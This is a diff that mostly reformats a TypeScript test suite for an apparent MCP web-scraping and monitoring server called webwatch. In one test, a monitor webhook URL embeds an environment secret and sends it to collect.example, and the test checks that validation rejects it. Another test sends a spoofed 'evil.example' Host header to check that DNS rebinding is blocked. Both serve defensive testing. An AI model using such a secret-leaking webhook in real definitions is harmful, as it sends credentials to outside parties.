@@ -22,9 +22,24 @@ const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
 const BIN = `${ROOT}bin/webwatch.js`;
 
 const TOOLS = [
-  'webwatch_agent', 'webwatch_agent_status', 'webwatch_agent_trace', 'webwatch_batch_scrape', 'webwatch_batch_status', 'webwatch_crawl',
-  'webwatch_crawl_status', 'webwatch_extract', 'webwatch_map', 'webwatch_monitor_apply', 'webwatch_monitor_check', 'webwatch_monitor_history', 'webwatch_monitor_list',
-  'webwatch_monitor_run', 'webwatch_monitor_validate', 'webwatch_more', 'webwatch_scrape', 'webwatch_search',
+  'webwatch_agent',
+  'webwatch_agent_status',
+  'webwatch_agent_trace',
+  'webwatch_batch_scrape',
+  'webwatch_batch_status',
+  'webwatch_crawl',
+  'webwatch_crawl_status',
+  'webwatch_extract',
+  'webwatch_map',
+  'webwatch_monitor_apply',
+  'webwatch_monitor_check',
+  'webwatch_monitor_history',
+  'webwatch_monitor_list',
+  'webwatch_monitor_run',
+  'webwatch_monitor_validate',
+  'webwatch_more',
+  'webwatch_scrape',
+  'webwatch_search',
 ];
 
 const textOf = (result: unknown) => ((result as CallToolResult).content[0] as { text: string }).text;
@@ -39,38 +54,60 @@ describe('webwatch mcp', { concurrency: false }, () => {
 
   before(async () => {
     const long = `<html><head><title>Long</title></head><body><main><h1>Long</h1>${Array.from({ length: 400 }, (_, i) => `<p>Paragraph ${i} of a long page, with enough words to fill a model's context quickly.</p>`).join('')}</main></body></html>`;
-    site = await startServer({
-      '/': html('<html><head><title>Acme</title></head><body><main><h1>Acme analytics</h1><p>Dashboards for small teams.</p><a href="/pricing">Pricing</a> <a href="/about">About</a></main></body></html>'),
-      '/pricing': (_q, r) => void r.writeHead(200, { 'content-type': 'text/html' }).end(`<html><head><title>Pricing</title></head><body><main><h1>Pricing</h1><p>Updated ${updatedAgo} hours ago</p><p>Pro plan: ${price}/month for the whole team.</p></main></body></html>`),
-      '/about': html('<html><head><title>About</title></head><body><main><h1>About</h1><p>Founded in 1999 in Lyon.</p></main></body></html>'),
-      '/long': html(long),
-    }, async (request, response) => {
-      // /slow/N: a page a second slower than a fast one, linking to the next three.
-      const match = /^\/slow\/(\d+)$/.exec(new URL(request.url!, 'http://x').pathname);
-      if (!match) return void response.writeHead(404).end('not found');
-      await delay(400);
-      const n = Number(match[1]);
-      response.writeHead(200, { 'content-type': 'text/html' }).end(`<html><head><title>Slow ${n}</title></head><body><main><h1>Slow page ${n}</h1><p>Text of page ${n}.</p>${[1, 2, 3].map((k) => `<a href="/slow/${n * 3 + k}">next</a>`).join(' ')}</main></body></html>`);
-    });
+    site = await startServer(
+      {
+        '/': html(
+          '<html><head><title>Acme</title></head><body><main><h1>Acme analytics</h1><p>Dashboards for small teams.</p><a href="/pricing">Pricing</a> <a href="/about">About</a></main></body></html>',
+        ),
+        '/pricing': (_q, r) =>
+          void r
+            .writeHead(200, { 'content-type': 'text/html' })
+            .end(
+              `<html><head><title>Pricing</title></head><body><main><h1>Pricing</h1><p>Updated ${updatedAgo} hours ago</p><p>Pro plan: ${price}/month for the whole team.</p></main></body></html>`,
+            ),
+        '/about': html('<html><head><title>About</title></head><body><main><h1>About</h1><p>Founded in 1999 in Lyon.</p></main></body></html>'),
+        '/long': html(long),
+      },
+      async (request, response) => {
+        // /slow/N: a page a second slower than a fast one, linking to the next three.
+        const match = /^\/slow\/(\d+)$/.exec(new URL(request.url!, 'http://x').pathname);
+        if (!match) return void response.writeHead(404).end('not found');
+        await delay(400);
+        const n = Number(match[1]);
+        response
+          .writeHead(200, { 'content-type': 'text/html' })
+          .end(
+            `<html><head><title>Slow ${n}</title></head><body><main><h1>Slow page ${n}</h1><p>Text of page ${n}.</p>${[1, 2, 3].map((k) => `<a href="/slow/${n * 3 + k}">next</a>`).join(' ')}</main></body></html>`,
+          );
+      },
+    );
     searxng = await startServer({
       '/search': (request, response) => {
         const q = new URL(request.url!, 'http://x').searchParams.get('q');
-        response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ query: q, results: [{ url: `${site.origin}/pricing`, title: 'Acme pricing', content: `Plans of Acme, for ${q}` }] }));
+        response
+          .writeHead(200, { 'content-type': 'application/json' })
+          .end(JSON.stringify({ query: q, results: [{ url: `${site.origin}/pricing`, title: 'Acme pricing', content: `Plans of Acme, for ${q}` }] }));
       },
     });
     // A model as slow as a real one: the agent reads the about page, then finishes; an extract answers in JSON.
-    model = await startFakeLlm(withLatency((request: FakeLlmRequestBody): FakeReply => {
-      if (request.response_format?.type === 'json_object') return { content: JSON.stringify({ data: { plans: [{ name: 'Pro', monthly: 29 }] } }) };
-      const turn = request.messages.filter((m) => m.role === 'assistant').length;
-      if (turn === 0) return { content: 'Reading the about page.', toolCalls: [{ name: 'scrape', arguments: { url: `${site.origin}/about` } }] };
-      return { toolCalls: [{ name: 'finish', arguments: { result: { founded: 1999, city: 'Lyon' } } }] };
-    }, { turnMs: 600, jitterMs: 300, seed: 3 }));
+    model = await startFakeLlm(
+      withLatency(
+        (request: FakeLlmRequestBody): FakeReply => {
+          if (request.response_format?.type === 'json_object') return { content: JSON.stringify({ data: { plans: [{ name: 'Pro', monthly: 29 }] } }) };
+          const turn = request.messages.filter((m) => m.role === 'assistant').length;
+          if (turn === 0) return { content: 'Reading the about page.', toolCalls: [{ name: 'scrape', arguments: { url: `${site.origin}/about` } }] };
+          return { toolCalls: [{ name: 'finish', arguments: { result: { founded: 1999, city: 'Lyon' } } }] };
+        },
+        { turnMs: 600, jitterMs: 300, seed: 3 },
+      ),
+    );
   });
   after(async () => {
     await Promise.all([site.close(), searxng.close(), model.close()]);
   });
 
-  const settings = () => writeFiles({ 'webwatch/config.yaml': `search: {provider: searxng, baseUrl: "${searxng.origin}"}\nllm: {baseUrl: "${model.url}", model: scripted}\n` });
+  const settings = () =>
+    writeFiles({ 'webwatch/config.yaml': `search: {provider: searxng, baseUrl: "${searxng.origin}"}\nllm: {baseUrl: "${model.url}", model: scripted}\n` });
 
   async function stdioClient(args: string[] = [], env: Record<string, string> = {}): Promise<Client> {
     const transport = new StdioClientTransport({
@@ -101,7 +138,10 @@ describe('webwatch mcp', { concurrency: false }, () => {
         assert.equal(tool.inputSchema.type, 'object', tool.name);
       }
       // The scrape options of the interface, from src/spec: formats with their names, a closed object.
-      const scrape = tools.find((tool) => tool.name === 'webwatch_scrape')!.inputSchema as { properties: Record<string, unknown>; additionalProperties?: unknown };
+      const scrape = tools.find((tool) => tool.name === 'webwatch_scrape')!.inputSchema as {
+        properties: Record<string, unknown>;
+        additionalProperties?: unknown;
+      };
       assert.ok(['url', 'formats', 'onlyMainContent', 'maxAge', 'actions', 'parsers'].every((field) => field in scrape.properties));
       assert.equal(scrape.additionalProperties, false);
       // Portable schemas: no `propertyNames` (what a record of string keys adds, and some assistants refuse).
@@ -139,7 +179,7 @@ describe('webwatch mcp', { concurrency: false }, () => {
       }
     });
 
-    it('refuses bad arguments by the schema before anything runs, and says tool errors in the model\'s terms', async () => {
+    it("refuses bad arguments by the schema before anything runs, and says tool errors in the model's terms", async () => {
       const before = site.requests.length;
       const refused = await client.callTool({ name: 'webwatch_scrape', arguments: { url: `${site.origin}/`, formats: ['markdwn'] } });
       assert.equal(refused.isError, true);
@@ -155,12 +195,19 @@ describe('webwatch mcp', { concurrency: false }, () => {
 
     it('crawls with progress notifications and pages the result through crawl_status', async () => {
       const progress: { progress: number; total?: number; message?: string }[] = [];
-      const result = textOf(await client.callTool({ name: 'webwatch_crawl', arguments: { url: `${site.origin}/`, crawlOptions: { limit: 10 } } }, undefined, { onprogress: (p) => void progress.push(p) }));
+      const result = textOf(
+        await client.callTool({ name: 'webwatch_crawl', arguments: { url: `${site.origin}/`, crawlOptions: { limit: 10 } } }, undefined, {
+          onprogress: (p) => void progress.push(p),
+        }),
+      );
       const id = /^crawl ([0-9a-f-]{36}): completed, 3 of 10 pages/.exec(result)?.[1];
       assert.ok(id, result);
       // One notification a page, in order (the SDK's client may drop one read with the result).
       assert.ok(progress.length >= 2, JSON.stringify(progress));
-      assert.deepEqual(progress.map((p) => p.progress), [1, 2, 3].slice(0, progress.length));
+      assert.deepEqual(
+        progress.map((p) => p.progress),
+        [1, 2, 3].slice(0, progress.length),
+      );
       assert.ok(progress.every((p) => p.total === 10 && p.message?.includes(id)));
       assert.match(result, /## 1\. .*\n\n# Acme analytics/);
       const rest = textOf(await client.callTool({ name: 'webwatch_crawl_status', arguments: { id, offset: 2 } }));
@@ -197,7 +244,13 @@ describe('webwatch mcp', { concurrency: false }, () => {
 
     it('scrapes a batch with progress, and cuts a long result with a note on how to read on', async () => {
       const progress: number[] = [];
-      const batch = textOf(await client.callTool({ name: 'webwatch_batch_scrape', arguments: { urls: [`${site.origin}/`, `${site.origin}/about`, `${site.origin}/missing`] } }, undefined, { onprogress: (p) => void progress.push(p.progress) }));
+      const batch = textOf(
+        await client.callTool(
+          { name: 'webwatch_batch_scrape', arguments: { urls: [`${site.origin}/`, `${site.origin}/about`, `${site.origin}/missing`] } },
+          undefined,
+          { onprogress: (p) => void progress.push(p.progress) },
+        ),
+      );
       assert.match(batch, /^batch [0-9a-f-]{36}: completed, 3 of 3 pages/);
       assert.match(batch, /# About\n\nFounded in 1999 in Lyon\./);
       assert.ok(progress.length >= 2 && progress.every((p) => p >= 1 && p <= 3), JSON.stringify(progress));
@@ -211,14 +264,24 @@ describe('webwatch mcp', { concurrency: false }, () => {
       assert.match(more, /\[end of result /);
     });
 
-    it('validates, applies, lists and runs monitors, and reads a changed page\'s diff', async () => {
+    it("validates, applies, lists and runs monitors, and reads a changed page's diff", async () => {
       const yaml = `name: Acme pricing\nschedule: {text: daily at 9:00}\ngoal: Tell me when the price of a plan changes\ntargets:\n  - type: scrape\n    urls: ["${site.origin}/pricing"]\n`;
-      const invalid = textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml: yaml.replace('daily at 9:00', 'every 2 minutes') } }));
+      const invalid = textOf(
+        await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml: yaml.replace('daily at 9:00', 'every 2 minutes') } }),
+      );
       assert.match(invalid, /^The definition is invalid/);
       assert.match(invalid, /2:\d+ schedule\.text: /);
-      assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml } })), /^The definition is valid\.\nvalid: Acme pricing/);
+      assert.match(
+        textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml } })),
+        /^The definition is valid\.\nvalid: Acme pricing/,
+      );
       // A definition a model writes does not read the server's environment.
-      const leaking = textOf(await client.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml: `${yaml}webhook: {url: "https://collect.example/\${WEBWATCH_SECRET}"}\n` } }));
+      const leaking = textOf(
+        await client.callTool({
+          name: 'webwatch_monitor_validate',
+          arguments: { yaml: `${yaml}webhook: {url: "https://collect.example/\${WEBWATCH_SECRET}"}\n` },
+        }),
+      );
       assert.match(leaking, /^The definition is invalid/);
       assert.match(leaking, /WEBWATCH_SECRET/);
       assert.doesNotMatch(leaking, /from-the-environment/);
@@ -234,7 +297,11 @@ describe('webwatch mcp', { concurrency: false }, () => {
       assert.doesNotMatch(listed, /s3cret-value/);
 
       const progress: string[] = [];
-      const first = textOf(await client.callTool({ name: 'webwatch_monitor_run', arguments: { monitor: 'Acme pricing' } }, undefined, { onprogress: (p) => void progress.push(p.message ?? '') }));
+      const first = textOf(
+        await client.callTool({ name: 'webwatch_monitor_run', arguments: { monitor: 'Acme pricing' } }, undefined, {
+          onprogress: (p) => void progress.push(p.message ?? ''),
+        }),
+      );
       assert.match(first, /completed: 0 changed, 1 new/);
       assert.match(progress[0] ?? '', /^checking Acme pricing/);
       price = '$35';
@@ -260,18 +327,30 @@ describe('webwatch mcp', { concurrency: false }, () => {
       price = '$35';
       updatedAgo = 4;
       try {
-        assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_run', arguments: { monitor: 'Acme pricing' } })), /completed: 0 changed, 0 new, 0 removed, 1 same/);
+        assert.match(
+          textOf(await client.callTool({ name: 'webwatch_monitor_run', arguments: { monitor: 'Acme pricing' } })),
+          /completed: 0 changed, 0 new, 0 removed, 1 same/,
+        );
       } finally {
         price = '$29';
         updatedAgo = 3;
       }
       const same = textOf(await client.callTool({ name: 'webwatch_monitor_check', arguments: { monitor: 'Acme pricing' } }));
-      assert.match(same, /## same .*\/pricing \(HTTP 200\)\nwhy same: only volatile parts changed: a relative time \("Updated 3 hours ago" → "Updated 4 hours ago"\)/);
+      assert.match(
+        same,
+        /## same .*\/pricing \(HTTP 200\)\nwhy same: only volatile parts changed: a relative time \("Updated 3 hours ago" → "Updated 4 hours ago"\)/,
+      );
     });
 
     it('runs an agent to its end with its steps as progress, then reads its status and trace; extracts with a model', async () => {
       const steps: string[] = [];
-      const ran = textOf(await client.callTool({ name: 'webwatch_agent', arguments: { prompt: 'When and where was Acme founded?', urls: [`${site.origin}/about`], wait: true } }, undefined, { onprogress: (p) => void steps.push(p.message ?? ''), timeout: 60_000 }));
+      const ran = textOf(
+        await client.callTool(
+          { name: 'webwatch_agent', arguments: { prompt: 'When and where was Acme founded?', urls: [`${site.origin}/about`], wait: true } },
+          undefined,
+          { onprogress: (p) => void steps.push(p.message ?? ''), timeout: 60_000 },
+        ),
+      );
       const id = /^agent ([0-9a-f-]{36}): completed/.exec(ran)?.[1];
       assert.ok(id, ran);
       assert.match(ran, /"founded": 1999/);
@@ -282,7 +361,13 @@ describe('webwatch mcp', { concurrency: false }, () => {
       assert.match(trace, /"type": "run\.finished"/);
       assert.doesNotMatch(trace, /"producerSequence": 1,/);
 
-      const extracted = textOf(await client.callTool({ name: 'webwatch_extract', arguments: { urls: [`${site.origin}/pricing`], prompt: 'The plans and their monthly prices' } }, undefined, { timeout: 60_000 }));
+      const extracted = textOf(
+        await client.callTool(
+          { name: 'webwatch_extract', arguments: { urls: [`${site.origin}/pricing`], prompt: 'The plans and their monthly prices' } },
+          undefined,
+          { timeout: 60_000 },
+        ),
+      );
       assert.match(extracted, /"status": "completed"/);
       assert.match(extracted, /"monthly": 29/);
     });
@@ -302,10 +387,20 @@ describe('webwatch mcp', { concurrency: false }, () => {
     });
 
     it('scrapes, crawls and applies monitors through the API, whose team keeps them', async () => {
-      assert.match(textOf(await client.callTool({ name: 'webwatch_scrape', arguments: { url: `${site.origin}/about` } })), /^# About\n\nFounded in 1999 in Lyon\./);
+      assert.match(
+        textOf(await client.callTool({ name: 'webwatch_scrape', arguments: { url: `${site.origin}/about` } })),
+        /^# About\n\nFounded in 1999 in Lyon\./,
+      );
       const again = textOf(await client.callTool({ name: 'webwatch_scrape', arguments: { url: `${site.origin}/about` } }));
-      assert.match(again, /^from cache, under a minute old; maxAge: 0 fetches anew\n\n# About\n/, 'the API\'s own default age holds, and the answer says so first');
-      assert.match(textOf(await client.callTool({ name: 'webwatch_crawl', arguments: { url: `${site.origin}/`, crawlOptions: { limit: 5 } } })), /: completed, 3 of 5 pages/);
+      assert.match(
+        again,
+        /^from cache, under a minute old; maxAge: 0 fetches anew\n\n# About\n/,
+        "the API's own default age holds, and the answer says so first",
+      );
+      assert.match(
+        textOf(await client.callTool({ name: 'webwatch_crawl', arguments: { url: `${site.origin}/`, crawlOptions: { limit: 5 } } })),
+        /: completed, 3 of 5 pages/,
+      );
       const yaml = `name: Remote pricing\nschedule: {cron: "0 9 * * *"}\ntargets: [{type: scrape, urls: ["${site.origin}/pricing"]}]\n`;
       assert.match(textOf(await client.callTool({ name: 'webwatch_monitor_apply', arguments: { yaml } })), /create Remote pricing \([0-9a-f-]{36}\)/);
       const stored = await fetch(`${served.url}/monitor`, { headers: { authorization: `Bearer ${(await served.keys.create('acme', new Date())).key}` } });
@@ -318,7 +413,8 @@ describe('webwatch mcp', { concurrency: false }, () => {
     let url: string;
     const clients: Client[] = [];
 
-    const serveMcp = (args: string[]) => mcpHttpProcess(args, { PATH: process.env.PATH!, WEBWATCH_HOME: tempDir(), XDG_CONFIG_HOME: settings(), HOME: tempDir() });
+    const serveMcp = (args: string[]) =>
+      mcpHttpProcess(args, { PATH: process.env.PATH!, WEBWATCH_HOME: tempDir(), XDG_CONFIG_HOME: settings(), HOME: tempDir() });
     const connect = (to: string) => mcpClient(to, clients);
 
     before(async () => {
@@ -335,7 +431,12 @@ describe('webwatch mcp', { concurrency: false }, () => {
       const [a, b] = await Promise.all([one.listTools(), two.listTools()]);
       assert.deepEqual(a.tools.map((tool) => tool.name).sort(), TOOLS);
       assert.deepEqual(b.tools.length, TOOLS.length);
-      const valid = textOf(await two.callTool({ name: 'webwatch_monitor_validate', arguments: { yaml: 'name: x\nschedule: {cron: "0 * * * *"}\ntargets: [{type: scrape, urls: ["https://example.com/"]}]\n' } }));
+      const valid = textOf(
+        await two.callTool({
+          name: 'webwatch_monitor_validate',
+          arguments: { yaml: 'name: x\nschedule: {cron: "0 * * * *"}\ntargets: [{type: scrape, urls: ["https://example.com/"]}]\n' },
+        }),
+      );
       assert.match(valid, /^The definition is valid/);
     });
 
@@ -360,23 +461,36 @@ describe('webwatch mcp', { concurrency: false }, () => {
     it('answers nothing but MCP at /mcp, and only under its own host name', async () => {
       const wrongPath = await fetch(url.replace('/mcp', '/v2/scrape'), { method: 'POST', body: '{}' });
       assert.equal(wrongPath.status, 404);
-      const initialize = { jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } } };
+      const initialize = {
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'initialize',
+        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } },
+      };
       const { request } = await import('node:http');
       const status = await new Promise<number>((resolve, reject) => {
-        const sent = request(url, { method: 'POST', headers: { host: 'evil.example', 'content-type': 'application/json', accept: 'application/json, text/event-stream' } }, (response) => {
-          response.resume();
-          resolve(response.statusCode!);
-        });
+        const sent = request(
+          url,
+          { method: 'POST', headers: { host: 'evil.example', 'content-type': 'application/json', accept: 'application/json, text/event-stream' } },
+          (response) => {
+            response.resume();
+            resolve(response.statusCode!);
+          },
+        );
         sent.on('error', reject);
         sent.end(JSON.stringify(initialize));
       });
       assert.equal(status, 403, 'a page that rebinds a name to 127.0.0.1 gets nothing');
-      const noSession = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' }, body: JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list' }) });
+      const noSession = await fetch(url, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
+        body: JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list' }),
+      });
       assert.equal(noSession.status, 400);
     });
   });
 
-  describe('the hosted service\'s MCP server (firecrawl-mcp) against webwatch serve', () => {
+  describe("the hosted service's MCP server (firecrawl-mcp) against webwatch serve", () => {
     let served: ServingWebwatch;
     let client: Client;
     before(async () => {
@@ -398,7 +512,10 @@ describe('webwatch mcp', { concurrency: false }, () => {
 
     it('lists and calls its scrape, map and search tools successfully', async () => {
       const names = (await client.listTools()).tools.map((tool) => tool.name);
-      assert.ok(['firecrawl_scrape', 'firecrawl_map', 'firecrawl_search'].every((name) => names.includes(name)), names.join(' '));
+      assert.ok(
+        ['firecrawl_scrape', 'firecrawl_map', 'firecrawl_search'].every((name) => names.includes(name)),
+        names.join(' '),
+      );
       const scraped = await client.callTool({ name: 'firecrawl_scrape', arguments: { url: `${site.origin}/pricing`, formats: ['markdown'] } });
       assert.ok(!scraped.isError, textOf(scraped));
       assert.match(textOf(scraped), /Pro plan: \$29\/month/);
